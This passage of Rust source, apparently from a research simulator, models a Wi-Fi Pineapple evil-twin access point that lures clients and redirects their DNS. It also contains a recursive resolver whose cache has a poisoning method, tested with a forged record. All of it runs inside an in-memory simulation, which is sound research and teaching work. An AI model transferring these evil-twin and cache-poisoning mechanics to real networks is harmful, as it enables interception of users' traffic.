        }));
        assert!(sta.rescan(&mut env), "station hops");
        assert_eq!(sta.dns_server(), Some(Ipv4Addr::new(172, 16, 0, 66)));
    }

    #[test]
    fn queries_flow_to_dhcp_dns() {
        let (mut env, _) = env_with_home(-50);
        env.register_service(
            Ipv4Addr::new(192, 168, 0, 53),
            share(|p: &[u8]| Some([p, b"!"].concat())),
        );
        let mut sta = Station::new(HwAddr::local(5), "Home".into());
        sta.rescan(&mut env);
        assert_eq!(sta.query_dns(&mut env, b"q"), Some(b"q!".to_vec()));
    }

    #[test]
    fn disconnected_station_cannot_query() {
        let mut env = RadioEnvironment::new();
        let sta = Station::new(HwAddr::local(5), "Home".into());
        assert!(sta.query_dns(&mut env, b"q").is_none());
    }
}
