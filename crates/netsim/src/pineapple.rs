//! The Wi-Fi Pineapple: a rogue access point for man-in-the-middle
//! DNS delivery (paper §III-D).

use std::net::Ipv4Addr;

use crate::addr::{HwAddr, Ssid};
use crate::ap::{AccessPoint, ApConfig, DhcpConfig};
use crate::env::{ApId, RadioEnvironment, SharedService};

/// Signal margin (dB) the Pineapple broadcasts above the strongest
/// legitimate AP with the cloned SSID.
const SIGNAL_MARGIN_DB: i32 = 20;

/// A deployed rogue AP. Its DHCP hands out the attacker's DNS server;
/// its signal out-shouts the legitimate network so preferred-SSID
/// clients hop over on their next scan.
#[derive(Debug)]
pub struct WifiPineapple {
    ap: ApId,
    dns_addr: Ipv4Addr,
    cloned_ssid: Ssid,
}

impl WifiPineapple {
    /// Subnet the Pineapple NATs clients into.
    pub const SUBNET: [u8; 3] = [172, 16, 42];

    /// Deploys the Pineapple: scans for `target_ssid`, clones it at
    /// higher power, and registers `dns_service` as the DHCP-advertised
    /// resolver. Returns `None` when the SSID is not on the air (nothing
    /// to impersonate).
    pub fn deploy(
        env: &mut RadioEnvironment,
        target_ssid: &Ssid,
        dns_service: SharedService,
    ) -> Option<WifiPineapple> {
        let strongest = env
            .scan()
            .into_iter()
            .filter(|r| &r.ssid == target_ssid)
            .map(|r| r.signal_dbm)
            .max()?;
        let dns_addr = Ipv4Addr::new(Self::SUBNET[0], Self::SUBNET[1], Self::SUBNET[2], 53);
        env.register_service(dns_addr, dns_service);
        let ap = env.add_ap(AccessPoint::new(ApConfig {
            ssid: target_ssid.clone(),
            bssid: HwAddr::local(0xEA7),
            signal_dbm: strongest + SIGNAL_MARGIN_DB,
            dhcp: DhcpConfig::new(Self::SUBNET, dns_addr),
        }));
        Some(WifiPineapple {
            ap,
            dns_addr,
            cloned_ssid: target_ssid.clone(),
        })
    }

    /// The rogue AP's handle.
    pub fn ap(&self) -> ApId {
        self.ap
    }

    /// Address of the malicious resolver clients are pointed at.
    pub fn dns_addr(&self) -> Ipv4Addr {
        self.dns_addr
    }

    /// The SSID being impersonated.
    pub fn cloned_ssid(&self) -> &Ssid {
        &self.cloned_ssid
    }

    /// Tears the rogue AP down (clients fall back to the legitimate
    /// network on their next scan).
    pub fn shutdown(self, env: &mut RadioEnvironment) {
        env.remove_ap(self.ap);
        env.unregister_service(self.dns_addr);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::share;
    use crate::station::Station;

    fn legit_env() -> RadioEnvironment {
        let mut env = RadioEnvironment::new();
        env.add_ap(AccessPoint::new(ApConfig {
            ssid: "HomeNet".into(),
            bssid: HwAddr::local(1),
            signal_dbm: -55,
            dhcp: DhcpConfig::new([192, 168, 1], Ipv4Addr::new(192, 168, 1, 53)),
        }));
        env
    }

    #[test]
    fn lures_station_and_intercepts_dns() {
        let mut env = legit_env();
        env.register_service(
            Ipv4Addr::new(192, 168, 1, 53),
            share(|_: &[u8]| Some(b"legit".to_vec())),
        );
        let mut sta = Station::new(HwAddr::local(9), "HomeNet".into());
        sta.rescan(&mut env);
        assert_eq!(sta.query_dns(&mut env, b"q"), Some(b"legit".to_vec()));

        let evil = share(|_: &[u8]| Some(b"evil".to_vec()));
        let pineapple =
            WifiPineapple::deploy(&mut env, &"HomeNet".into(), evil).expect("ssid on air");
        assert!(sta.rescan(&mut env), "victim hops to the stronger clone");
        assert_eq!(sta.dns_server(), Some(pineapple.dns_addr()));
        assert_eq!(sta.query_dns(&mut env, b"q"), Some(b"evil".to_vec()));

        pineapple.shutdown(&mut env);
        assert!(sta.rescan(&mut env), "falls back to the legitimate AP");
        assert_eq!(sta.query_dns(&mut env, b"q"), Some(b"legit".to_vec()));
    }

    #[test]
    fn needs_a_target_ssid_on_air() {
        let mut env = RadioEnvironment::new();
        let evil = share(|_: &[u8]| None);
        assert!(WifiPineapple::deploy(&mut env, &"Ghost".into(), evil).is_none());
    }
}
