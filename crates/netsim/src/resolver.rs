//! A recursive resolver with an allocation-free answer cache, driven by
//! the deterministic discrete-event [`scheduler`](crate::scheduler).
//!
//! # The state machine
//!
//! A cache miss walks the delegation tree exactly the way a real
//! iterative resolver does, as three event kinds on the scheduler:
//!
//! * **InitQuery** — a client query arrives; the cache missed, so a
//!   resolution chain starts at a root server.
//! * **QueryTarget** — the resolver sends a (case-normalized,
//!   uncompressed) query to one authoritative server; the packet is in
//!   flight for one seeded latency draw.
//! * **QueryResponse** — the server's answer arrives after a second
//!   draw and is classified: a final answer set, a CNAME to follow
//!   (restart at the root for the target), a referral to chase (use
//!   glue from the additional section, or recurse to resolve the
//!   nameserver's own address first), or a dead end.
//!
//! Every latency is a pure function of `(seed, link, event index)`, and
//! ties dispatch in schedule order, so the whole trace is a
//! deterministic function of the seed — byte-identical at any worker
//! count.
//!
//! # The cache (the hot path)
//!
//! [`ResolverCache`] keys entries by a hash of the *canonical* question
//! — the qname lowercased on the fly, plus the qtype — so any case
//! variant of the same question hits. An entry stores the full response
//! message in a pooled [`WireBuf`]; a hit copies it into the caller's
//! warm buffer and patches the transaction id, touching the heap not at
//! all. Expiry is batched: entries carry an expiry tick on the event
//! clock and a binary heap drains everything due whenever the clock
//! advances past it.
//!
//! # The attack surface
//!
//! [`RecursiveResolver::poison`] injects an attacker-controlled
//! response under a question's canonical key — the XDRI
//! (arXiv 2208.12003) upstream-compromise model. Every dependent
//! client from then on receives the injected bytes as an ordinary
//! cache hit: one poisoning event, fleet-wide redirection, no
//! per-device malicious delivery.

use std::cmp::Reverse;
use std::collections::{BinaryHeap, HashMap};
use std::net::Ipv4Addr;

use cml_dns::{
    BufPool, Label, Message, Name, Question, Rcode, Record, RecordData, RecordType, WireBuf,
    ZoneServer,
};

use crate::scheduler::{link_latency_us, mix64, Scheduler, SimTime};

/// Event-clock ticks per second of DNS TTL.
pub const TICKS_PER_SEC: SimTime = 1_000_000;

/// Most CNAME links one resolution will follow.
const MAX_CNAME_FOLLOWS: u8 = 8;

/// Most referrals one resolution will chase.
const MAX_REFERRALS: u8 = 16;

/// Parses the canonical query shape (header with QR clear, QDCOUNT 1,
/// empty record sections, one uncompressed question, nothing trailing)
/// and returns `(id, qtype, qname wire bytes including the root byte)`.
fn wire_question(b: &[u8]) -> Option<(u16, u16, &[u8])> {
    if b.len() < 12 || b[2] & 0x80 != 0 {
        return None;
    }
    if b[4..12] != [0, 1, 0, 0, 0, 0, 0, 0] {
        return None;
    }
    let mut i = 12usize;
    loop {
        let l = *b.get(i)? as usize;
        i += 1;
        if l == 0 {
            break;
        }
        if l & 0xC0 != 0 {
            return None;
        }
        i += l;
    }
    if i - 12 > cml_dns::MAX_NAME_LEN || b.len() != i + 4 {
        return None;
    }
    let id = u16::from_be_bytes([b[0], b[1]]);
    let qtype = u16::from_be_bytes([b[i], b[i + 1]]);
    Some((id, qtype, &b[12..i]))
}

/// FNV-1a over the case-folded qname wire plus the qtype, finished with
/// a SplitMix64 mix. Length bytes are at most 63, outside the ASCII
/// uppercase range, so folding every byte never corrupts the structure.
fn canonical_key(qname_wire: &[u8], qtype: u16) -> u64 {
    let mut h = 0xCBF2_9CE4_8422_2325u64;
    for &b in qname_wire {
        h = (h ^ b.to_ascii_lowercase() as u64).wrapping_mul(0x0000_0100_0000_01B3);
    }
    for b in qtype.to_be_bytes() {
        h = (h ^ b as u64).wrapping_mul(0x0000_0100_0000_01B3);
    }
    mix64(h)
}

/// Counters the cache keeps.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CacheStats {
    /// Lookups served from a live entry.
    pub hits: u64,
    /// Lookups that found nothing usable.
    pub misses: u64,
    /// Entries stored (including overwrites).
    pub inserts: u64,
    /// Entries dropped by batched TTL expiry.
    pub expirations: u64,
    /// Entries dropped to make room at capacity.
    pub evictions: u64,
    /// Entries injected by an attacker.
    pub poisonings: u64,
}

#[derive(Debug)]
struct CacheEntry {
    /// Canonical (lowercased) qname wire bytes, for collision safety.
    qname: WireBuf,
    qtype: u16,
    /// The full response message; byte 0..2 (the id) is patched per hit.
    answer: WireBuf,
    expires_at: SimTime,
}

/// The resolver's answer cache: hashed canonical-question keys, pooled
/// buffers, batched TTL expiry on the event clock. The steady-state hit
/// path ([`lookup_into`](Self::lookup_into) with a warm `out`) performs
/// zero heap allocations.
#[derive(Debug)]
pub struct ResolverCache {
    entries: HashMap<u64, CacheEntry>,
    expiry: BinaryHeap<Reverse<(SimTime, u64)>>,
    capacity: usize,
    pool: BufPool,
    stats: CacheStats,
}

impl ResolverCache {
    /// An empty cache holding at most `capacity` entries.
    pub fn new(capacity: usize) -> Self {
        ResolverCache {
            entries: HashMap::with_capacity(capacity.min(4096)),
            expiry: BinaryHeap::new(),
            capacity: capacity.max(1),
            pool: BufPool::new(),
            stats: CacheStats::default(),
        }
    }

    /// Live entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether the cache is empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// The configured capacity.
    pub fn capacity(&self) -> usize {
        self.capacity
    }

    /// Counter snapshot.
    pub fn stats(&self) -> CacheStats {
        self.stats
    }

    /// Serves `query` from the cache if a live entry matches its
    /// canonical question: copies the stored response into `out`
    /// (contents replaced, capacity kept) with the query's transaction
    /// id patched in, and returns `true`. A warm `out` makes the whole
    /// hit allocation-free.
    pub fn lookup_into(&mut self, now: SimTime, query: &[u8], out: &mut Vec<u8>) -> bool {
        if let Some((id, qtype, qname)) = wire_question(query) {
            let key = canonical_key(qname, qtype);
            if let Some(e) = self.entries.get(&key) {
                if now < e.expires_at
                    && e.qtype == qtype
                    && e.qname.as_bytes().eq_ignore_ascii_case(qname)
                {
                    out.clear();
                    out.extend_from_slice(e.answer.as_bytes());
                    out[0..2].copy_from_slice(&id.to_be_bytes());
                    self.stats.hits += 1;
                    return true;
                }
            }
        }
        self.stats.misses += 1;
        false
    }

    /// Stores `response` under `query`'s canonical question until
    /// `now + ttl_ticks`. A zero TTL stores nothing. At capacity the
    /// soonest-expiring entry is evicted first. Returns whether the
    /// entry was stored.
    pub fn insert(
        &mut self,
        now: SimTime,
        query: &[u8],
        response: &[u8],
        ttl_ticks: SimTime,
    ) -> bool {
        if ttl_ticks == 0 || response.len() < 12 {
            return false;
        }
        let Some((_, qtype, qname)) = wire_question(query) else {
            return false;
        };
        let key = canonical_key(qname, qtype);
        if self.entries.len() >= self.capacity && !self.entries.contains_key(&key) {
            self.evict_soonest();
            if self.entries.len() >= self.capacity {
                return false;
            }
        }
        let mut qbuf = self.pool.checkout();
        qbuf.as_mut_vec().extend_from_slice(qname);
        qbuf.as_mut_vec().make_ascii_lowercase();
        let mut abuf = self.pool.checkout();
        abuf.as_mut_vec().extend_from_slice(response);
        let expires_at = now.saturating_add(ttl_ticks);
        if let Some(old) = self.entries.insert(
            key,
            CacheEntry {
                qname: qbuf,
                qtype,
                answer: abuf,
                expires_at,
            },
        ) {
            self.pool.checkin(old.qname);
            self.pool.checkin(old.answer);
        }
        self.expiry.push(Reverse((expires_at, key)));
        self.stats.inserts += 1;
        true
    }

    /// [`insert`](Self::insert) as the attacker: same mechanics, counted
    /// as a poisoning. One successful call redirects every dependent
    /// client until the TTL runs out.
    pub fn poison(
        &mut self,
        now: SimTime,
        query: &[u8],
        response: &[u8],
        ttl_ticks: SimTime,
    ) -> bool {
        let stored = self.insert(now, query, response, ttl_ticks);
        if stored {
            self.stats.poisonings += 1;
        }
        stored
    }

    /// Batched expiry: drops every entry whose TTL has run out at `now`.
    /// Amortized O(expired · log n); nothing is scanned when nothing is
    /// due, so the hot path stays flat under churn.
    pub fn advance(&mut self, now: SimTime) {
        while let Some(&Reverse((due, key))) = self.expiry.peek() {
            if due > now {
                break;
            }
            self.expiry.pop();
            // The heap may hold stale tickets for keys that were
            // overwritten with a later expiry; drop only a true match.
            if self.entries.get(&key).is_some_and(|e| e.expires_at <= now) {
                let e = self.entries.remove(&key).expect("checked present");
                self.pool.checkin(e.qname);
                self.pool.checkin(e.answer);
                self.stats.expirations += 1;
            }
        }
    }

    fn evict_soonest(&mut self) {
        while let Some(Reverse((due, key))) = self.expiry.pop() {
            if self.entries.get(&key).is_some_and(|e| e.expires_at == due) {
                let e = self.entries.remove(&key).expect("checked present");
                self.pool.checkin(e.qname);
                self.pool.checkin(e.answer);
                self.stats.evictions += 1;
                return;
            }
        }
    }
}

/// The simulated internet: authoritative [`ZoneServer`]s by address,
/// plus the root hint a resolution chain starts from.
#[derive(Debug)]
pub struct Internet {
    servers: HashMap<Ipv4Addr, ZoneServer>,
    root: Ipv4Addr,
}

impl Internet {
    /// An internet whose root servers answer at `root`.
    pub fn new(root: Ipv4Addr) -> Self {
        Internet {
            servers: HashMap::new(),
            root,
        }
    }

    /// The root hint.
    pub fn root(&self) -> Ipv4Addr {
        self.root
    }

    /// Deploys an authoritative server at `addr`.
    pub fn add_server(&mut self, addr: Ipv4Addr, server: ZoneServer) -> &mut Self {
        self.servers.insert(addr, server);
        self
    }

    /// The server at `addr`, if one is deployed.
    pub fn server(&self, addr: Ipv4Addr) -> Option<&ZoneServer> {
        self.servers.get(&addr)
    }

    /// Delivers one query datagram to the server at `addr`.
    fn handle(&mut self, addr: Ipv4Addr, query: &[u8]) -> Option<Vec<u8>> {
        self.servers.get_mut(&addr)?.handle(query)
    }
}

/// Counters the resolver keeps (cache counters live in [`CacheStats`]).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ResolverStats {
    /// Client queries handled (hit or miss).
    pub client_queries: u64,
    /// Queries sent to authoritative servers.
    pub upstream_queries: u64,
    /// Referrals followed.
    pub referrals: u64,
    /// CNAME links followed.
    pub cname_follows: u64,
    /// Referrals whose nameserver had no glue and needed its own
    /// resolution chain.
    pub glue_chases: u64,
    /// Resolutions that dead-ended (NXDOMAIN, loops, silent servers).
    pub failures: u64,
}

/// One event on the resolution state machine.
#[derive(Debug)]
enum ResolveEvent {
    InitQuery {
        name: Name,
        qtype: RecordType,
    },
    QueryTarget {
        server: Ipv4Addr,
        name: Name,
        qtype: RecordType,
    },
    QueryResponse {
        server: Ipv4Addr,
        bytes: Option<Vec<u8>>,
    },
}

/// One link of the resolution chain: the name currently being resolved
/// (CNAME rewrites replace it) and loop budgets. Glue chases push a
/// fresh frame; its answer becomes the parent's next server address.
#[derive(Debug)]
struct Frame {
    name: Name,
    qtype: RecordType,
    cnames: u8,
    referrals: u8,
}

/// A recursive resolver over an [`Internet`], with a poisonable
/// [`ResolverCache`] and a deterministic event trace.
#[derive(Debug)]
pub struct RecursiveResolver {
    seed: u64,
    cache: ResolverCache,
    sched: Scheduler<ResolveEvent>,
    trace: String,
    stats: ResolverStats,
    next_id: u16,
}

fn ip_link(addr: Ipv4Addr) -> u64 {
    u32::from(addr) as u64
}

/// Case-folds a name to its canonical lowercase form — the shape the
/// resolver re-encodes every upstream query in.
fn normalize(name: &Name) -> Name {
    let labels = name
        .labels()
        .iter()
        .map(|l| {
            let mut buf = [0u8; cml_dns::MAX_LABEL_LEN];
            let bytes = l.as_bytes();
            buf[..bytes.len()].copy_from_slice(bytes);
            buf[..bytes.len()].make_ascii_lowercase();
            Label::from_bytes_relaxed(&buf[..bytes.len()]).expect("label length preserved")
        })
        .collect();
    Name::from_labels(labels).expect("wire length preserved")
}

impl RecursiveResolver {
    /// A resolver with the given latency seed and cache capacity.
    pub fn new(seed: u64, cache_capacity: usize) -> Self {
        RecursiveResolver {
            seed,
            cache: ResolverCache::new(cache_capacity),
            sched: Scheduler::new(),
            trace: String::new(),
            stats: ResolverStats::default(),
            next_id: 1,
        }
    }

    /// The event clock, in ticks ([`TICKS_PER_SEC`] per second).
    pub fn now(&self) -> SimTime {
        self.sched.now()
    }

    /// Advances the event clock to `t` (arrivals between queries),
    /// expiring everything due on the way.
    pub fn advance_to(&mut self, t: SimTime) {
        self.sched.advance_to(t);
        self.cache.advance(self.sched.now());
    }

    /// Counter snapshot.
    pub fn stats(&self) -> ResolverStats {
        self.stats
    }

    /// The answer cache.
    pub fn cache(&self) -> &ResolverCache {
        &self.cache
    }

    /// The event trace so far: one line per state-machine transition,
    /// stamped with the event clock. Byte-identical for equal seeds.
    pub fn trace(&self) -> &str {
        &self.trace
    }

    /// Discards the trace (long fleet runs truncate between cohorts).
    pub fn clear_trace(&mut self) {
        self.trace.clear();
    }

    /// Injects `response` under `query`'s canonical question for
    /// `ttl_secs` — the upstream cache-poisoning event. Returns whether
    /// the injection stuck.
    pub fn poison(&mut self, query: &[u8], response: &[u8], ttl_secs: u32) -> bool {
        let now = self.sched.now();
        let stored = self
            .cache
            .poison(now, query, response, ttl_secs as SimTime * TICKS_PER_SEC);
        if stored {
            let tag = wire_question(query)
                .map(|(_, qt, _)| RecordType::from_u16(qt).to_string())
                .unwrap_or_default();
            self.trace_line(now, &format!("poisoned {tag} ttl={ttl_secs}s"));
        }
        stored
    }

    /// Handles one client query: answers from the cache when a live
    /// entry matches, otherwise runs the full recursive chain and
    /// caches the result. Returns the response bytes, or `None` when
    /// resolution dead-ends.
    pub fn handle_query(&mut self, net: &mut Internet, query: &[u8]) -> Option<Vec<u8>> {
        let mut out = Vec::new();
        if self.handle_query_into(net, query, &mut out) {
            Some(out)
        } else {
            None
        }
    }

    /// [`handle_query`](Self::handle_query) into a reusable buffer:
    /// replaces `out`'s contents and returns `true`, or returns `false`
    /// on a dead end. The cache-hit path with a warm `out` is
    /// allocation-free.
    pub fn handle_query_into(
        &mut self,
        net: &mut Internet,
        query: &[u8],
        out: &mut Vec<u8>,
    ) -> bool {
        self.stats.client_queries += 1;
        let now = self.sched.now();
        self.cache.advance(now);
        if self.cache.lookup_into(now, query, out) {
            return true;
        }
        let client = match Message::decode(query) {
            Ok(m) if !m.is_response() && !m.questions().is_empty() => m,
            _ => {
                self.stats.failures += 1;
                return false;
            }
        };
        let question = client.questions()[0].clone();
        let Some(answers) = self.run(net, question.qname(), question.qtype()) else {
            self.stats.failures += 1;
            return false;
        };
        let mut resp = Message::response_to(&client);
        let mut ttl_secs = u32::MAX;
        for a in answers {
            ttl_secs = ttl_secs.min(a.ttl());
            resp.push_answer(a);
        }
        let Ok(bytes) = resp.encode() else {
            self.stats.failures += 1;
            return false;
        };
        self.cache.insert(
            self.sched.now(),
            query,
            &bytes,
            ttl_secs as SimTime * TICKS_PER_SEC,
        );
        out.clear();
        out.extend_from_slice(&bytes);
        true
    }

    /// Drives the InitQuery → QueryTarget → QueryResponse machine to
    /// completion for one question. Returns the final answer set.
    fn run(&mut self, net: &mut Internet, name: &Name, qtype: RecordType) -> Option<Vec<Record>> {
        let root = net.root();
        let mut stack = vec![Frame {
            name: normalize(name),
            qtype,
            cnames: 0,
            referrals: 0,
        }];
        self.sched.schedule_in(
            0,
            ResolveEvent::InitQuery {
                name: normalize(name),
                qtype,
            },
        );
        while let Some((t, ev)) = self.sched.pop() {
            match ev {
                ResolveEvent::InitQuery { name, qtype } => {
                    self.trace_line(t, &format!("init {name} {qtype}"));
                    self.send(root, name, qtype);
                }
                ResolveEvent::QueryTarget {
                    server,
                    name,
                    qtype,
                } => {
                    self.trace_line(t, &format!("-> {server} {name} {qtype}"));
                    self.stats.upstream_queries += 1;
                    let id = self.next_id;
                    self.next_id = self.next_id.wrapping_add(1).max(1);
                    let q = Message::query(id, Question::new(name, qtype));
                    let bytes = q.encode().ok().and_then(|b| net.handle(server, &b));
                    let idx = self.sched.events_scheduled();
                    let delay = link_latency_us(self.seed, ip_link(server), idx);
                    self.sched
                        .schedule_in(delay, ResolveEvent::QueryResponse { server, bytes });
                }
                ResolveEvent::QueryResponse { server, bytes } => {
                    match self.on_response(net, &mut stack, t, server, bytes) {
                        Step::Continue => {}
                        Step::Done(answers) => return Some(answers),
                        Step::Fail => return None,
                    }
                }
            }
        }
        None
    }

    /// Classifies one upstream response and advances the frame stack.
    fn on_response(
        &mut self,
        net: &Internet,
        stack: &mut Vec<Frame>,
        t: SimTime,
        server: Ipv4Addr,
        bytes: Option<Vec<u8>>,
    ) -> Step {
        let _ = net;
        let frame = stack.last_mut().expect("a response implies a frame");
        let Some(bytes) = bytes else {
            self.trace_line(t, &format!("<- {server} silent"));
            return Step::Fail;
        };
        let Ok(msg) = Message::decode(&bytes) else {
            self.trace_line(t, &format!("<- {server} undecodable"));
            return Step::Fail;
        };
        if msg.header().rcode == Rcode::NxDomain {
            self.trace_line(t, &format!("<- {server} nxdomain"));
            return Step::Fail;
        }
        // A final answer: records of the asked type at the asked name.
        let done = msg
            .answers()
            .iter()
            .any(|r| r.rtype() == frame.qtype && r.name().eq_ignore_case(&frame.name));
        if done {
            self.trace_line(
                t,
                &format!("<- {server} answer ({} records)", msg.answers().len()),
            );
            let answers: Vec<Record> = msg.answers().to_vec();
            stack.pop();
            if stack.is_empty() {
                return Step::Done(answers);
            }
            // A finished glue chase: the first address becomes the
            // parent frame's next server.
            let addr = answers.iter().find_map(|r| match r.data() {
                RecordData::A(a) => Some(*a),
                _ => None,
            });
            let Some(addr) = addr else {
                return Step::Fail;
            };
            let parent = stack.last().expect("just checked non-empty");
            let (name, qtype) = (parent.name.clone(), parent.qtype);
            self.trace_line(t, &format!("glue resolved -> {addr}"));
            self.send(addr, name, qtype);
            return Step::Continue;
        }
        // A CNAME for the current name: rewrite and restart at the root.
        let cname = msg.answers().iter().find_map(|r| match r.data() {
            RecordData::Cname(target) if r.name().eq_ignore_case(&frame.name) => Some(target),
            _ => None,
        });
        if let Some(target) = cname {
            frame.cnames += 1;
            if frame.cnames > MAX_CNAME_FOLLOWS {
                self.trace_line(t, "cname loop");
                return Step::Fail;
            }
            frame.name = normalize(target);
            self.stats.cname_follows += 1;
            self.trace_line(t, &format!("<- {server} cname -> {}", frame.name));
            let (name, qtype) = (frame.name.clone(), frame.qtype);
            let root = self.root_of(net);
            self.send(root, name, qtype);
            return Step::Continue;
        }
        // A referral: NS in the authority section, maybe glue in the
        // additional section.
        let ns = msg.authorities().iter().find_map(|r| match r.data() {
            RecordData::Ns(target) => Some((r.name().clone(), target.clone())),
            _ => None,
        });
        if let Some((cut, ns_name)) = ns {
            frame.referrals += 1;
            if frame.referrals > MAX_REFERRALS {
                self.trace_line(t, "referral loop");
                return Step::Fail;
            }
            self.stats.referrals += 1;
            let glue = msg.additionals().iter().find_map(|r| match r.data() {
                RecordData::A(a) if r.name().eq_ignore_case(&ns_name) => Some(*a),
                _ => None,
            });
            if let Some(addr) = glue {
                self.trace_line(
                    t,
                    &format!("<- {server} referral {cut} -> {ns_name} ({addr})"),
                );
                let (name, qtype) = {
                    let f = stack.last().expect("frame still current");
                    (f.name.clone(), f.qtype)
                };
                self.send(addr, name, qtype);
            } else {
                // Glue chase: resolve the nameserver's address first.
                self.trace_line(
                    t,
                    &format!("<- {server} referral {cut} -> {ns_name} (no glue)"),
                );
                self.stats.glue_chases += 1;
                if stack.len() > MAX_REFERRALS as usize {
                    return Step::Fail;
                }
                let chase = Frame {
                    name: normalize(&ns_name),
                    qtype: RecordType::A,
                    cnames: 0,
                    referrals: 0,
                };
                let (name, qtype) = (chase.name.clone(), chase.qtype);
                stack.push(chase);
                let root = self.root_of(net);
                self.send(root, name, qtype);
            }
            return Step::Continue;
        }
        self.trace_line(t, &format!("<- {server} dead end"));
        Step::Fail
    }

    fn root_of(&self, net: &Internet) -> Ipv4Addr {
        net.root
    }

    /// Schedules a QueryTarget after one seeded latency draw.
    fn send(&mut self, server: Ipv4Addr, name: Name, qtype: RecordType) {
        let idx = self.sched.events_scheduled();
        let delay = link_latency_us(self.seed, ip_link(server), idx);
        self.sched.schedule_in(
            delay,
            ResolveEvent::QueryTarget {
                server,
                name,
                qtype,
            },
        );
    }

    fn trace_line(&mut self, t: SimTime, line: &str) {
        use std::fmt::Write;
        let _ = writeln!(self.trace, "[{t:>10}us] {line}");
    }
}

/// Control-flow result of classifying one response.
enum Step {
    Continue,
    Done(Vec<Record>),
    Fail,
}

/// Builds the small demo internet the CLI and the smoke tests resolve
/// against: a root zone delegating `example`, an `example` TLD zone
/// delegating `vendor.example` (with glue) and `cdn.example` (without
/// glue, forcing a chase), and authoritative zones with a CNAME chain.
/// Returns the internet and the name whose resolution exercises every
/// transition: `www.vendor.example` → CNAME → `edge.cdn.example`.
pub fn example_internet() -> (Internet, Name) {
    use cml_dns::Zone;

    let root_addr = Ipv4Addr::new(198, 41, 0, 4);
    let tld_addr = Ipv4Addr::new(192, 5, 6, 30);
    let vendor_addr = Ipv4Addr::new(203, 0, 113, 53);
    let cdn_addr = Ipv4Addr::new(203, 0, 113, 54);

    let mut root = Zone::rooted("");
    root.ns("example", 172800, "a.gtld.example")
        .a("a.gtld.example", 172800, tld_addr);

    let mut tld = Zone::rooted("example");
    tld.ns("vendor.example", 86400, "ns1.vendor.example")
        .a("ns1.vendor.example", 86400, vendor_addr)
        // The cdn nameserver is out-of-bailiwick (its address lives in
        // the vendor zone), so this delegation carries no glue and any
        // resolution under cdn.example chases the nameserver first.
        .ns("cdn.example", 86400, "cdnns.vendor.example");

    let mut vendor = Zone::rooted("vendor.example");
    vendor
        .a(
            "telemetry.vendor.example",
            300,
            Ipv4Addr::new(203, 0, 113, 7),
        )
        .cname("www.vendor.example", 600, "edge.cdn.example")
        .a("ns1.vendor.example", 86400, vendor_addr)
        .a("cdnns.vendor.example", 86400, cdn_addr);

    let mut cdn = Zone::rooted("cdn.example");
    cdn.a("edge.cdn.example", 120, Ipv4Addr::new(203, 0, 113, 80));

    let mut net = Internet::new(root_addr);
    net.add_server(root_addr, ZoneServer::new(root))
        .add_server(tld_addr, ZoneServer::new(tld))
        .add_server(vendor_addr, ZoneServer::new(vendor))
        .add_server(cdn_addr, ZoneServer::new(cdn));
    (net, Name::parse("www.vendor.example").expect("static name"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn a_query(id: u16, name: &str) -> Vec<u8> {
        Message::query(id, Question::new(Name::parse(name).unwrap(), RecordType::A))
            .encode()
            .unwrap()
    }

    #[test]
    fn resolves_through_delegation_and_glue() {
        let (mut net, _) = example_internet();
        let mut r = RecursiveResolver::new(7, 64);
        let resp = r
            .handle_query(&mut net, &a_query(42, "telemetry.vendor.example"))
            .expect("resolves");
        let m = Message::decode(&resp).unwrap();
        assert_eq!(m.id(), 42);
        assert_eq!(
            m.answers()[0].to_string(),
            "telemetry.vendor.example 300 IN A 203.0.113.7"
        );
        // Chain: root referral -> tld referral -> authoritative answer.
        assert_eq!(r.stats().referrals, 2);
        assert_eq!(r.stats().upstream_queries, 3);
        assert!(r.trace().contains("referral example -> a.gtld.example"));
    }

    #[test]
    fn follows_cname_across_zones_with_glue_chase() {
        let (mut net, www) = example_internet();
        let mut r = RecursiveResolver::new(7, 64);
        let q = a_query(9, &www.to_string());
        let resp = r.handle_query(&mut net, &q).expect("resolves");
        let m = Message::decode(&resp).unwrap();
        assert!(m
            .answers()
            .iter()
            .any(|rec| rec.to_string() == "edge.cdn.example 120 IN A 203.0.113.80"));
        assert_eq!(r.stats().cname_follows, 1);
        assert_eq!(r.stats().glue_chases, 1, "cdn delegation has no glue");
        assert!(r.trace().contains("(no glue)"));
        assert!(r.trace().contains("glue resolved ->"));
    }

    #[test]
    fn second_query_hits_cache_and_any_case_matches() {
        let (mut net, _) = example_internet();
        let mut r = RecursiveResolver::new(7, 64);
        let cold = r
            .handle_query(&mut net, &a_query(1, "telemetry.vendor.example"))
            .expect("resolves");
        let upstream_after_cold = r.stats().upstream_queries;
        let warm = r
            .handle_query(&mut net, &a_query(0xBEEF, "Telemetry.VENDOR.example"))
            .expect("cache hit");
        assert_eq!(
            r.stats().upstream_queries,
            upstream_after_cold,
            "no re-fetch"
        );
        assert_eq!(r.cache().stats().hits, 1);
        assert_eq!(warm[0..2], 0xBEEFu16.to_be_bytes(), "id patched");
        assert_eq!(warm[2..], cold[2..], "same answer bytes after the id");
    }

    #[test]
    fn trace_is_deterministic_for_a_seed() {
        let run = |seed| {
            let (mut net, www) = example_internet();
            let mut r = RecursiveResolver::new(seed, 64);
            r.handle_query(&mut net, &a_query(5, &www.to_string()))
                .expect("resolves");
            r.trace().to_string()
        };
        assert_eq!(run(7), run(7), "same seed, same trace bytes");
        assert_ne!(run(7), run(8), "latency draws depend on the seed");
    }

    #[test]
    fn nxdomain_fails_cleanly() {
        let (mut net, _) = example_internet();
        let mut r = RecursiveResolver::new(7, 64);
        assert!(r
            .handle_query(&mut net, &a_query(1, "ghost.vendor.example"))
            .is_none());
        assert_eq!(r.stats().failures, 1);
    }

    #[test]
    fn poisoned_cache_redirects_every_dependent_query() {
        let (mut net, _) = example_internet();
        let mut r = RecursiveResolver::new(7, 64);
        let q = a_query(1, "telemetry.vendor.example");
        // The attacker's answer: same question, attacker's address.
        let mut forged = Message::response_to(&Message::decode(&q).unwrap());
        forged.push_answer(Record::new(
            Name::parse("telemetry.vendor.example").unwrap(),
            600,
            RecordData::A(Ipv4Addr::new(10, 13, 37, 99)),
        ));
        let forged = forged.encode().unwrap();
        assert!(r.poison(&q, &forged, 600));
        // Every client from now on gets the injected bytes — the
